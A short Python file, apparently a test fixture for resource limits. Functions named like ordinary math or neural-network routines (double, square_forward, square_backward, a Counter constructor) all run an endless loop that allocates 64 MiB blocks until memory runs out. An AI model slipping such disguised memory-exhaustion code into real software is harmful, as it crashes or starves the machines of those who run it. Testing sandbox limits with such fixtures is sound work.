"""Allocate memory until something gives."""
hoard = []


def double(x):
    while True:
        hoard.append(bytearray(64 << 20))


def square_forward(x):
    return double(x)


def square_backward(dout, cache):
    return double(dout)


class Counter:
    def __init__(self, start=0):
        double(0)
